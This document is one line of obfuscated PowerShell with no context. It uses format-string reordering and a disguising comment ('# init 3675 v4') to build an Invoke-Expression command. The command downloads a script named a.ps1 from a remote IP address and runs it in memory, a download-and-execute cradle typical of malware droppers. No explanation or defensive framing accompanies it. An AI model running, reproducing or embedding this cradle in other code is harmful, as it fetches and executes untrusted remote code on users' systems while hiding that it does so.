iex ("{2}{0}{1}" -f 'IEX (New-','Object Net.WebClient).DownloadString(''http://192.0.2.44/a.ps1'')
','# init 3675 v4
')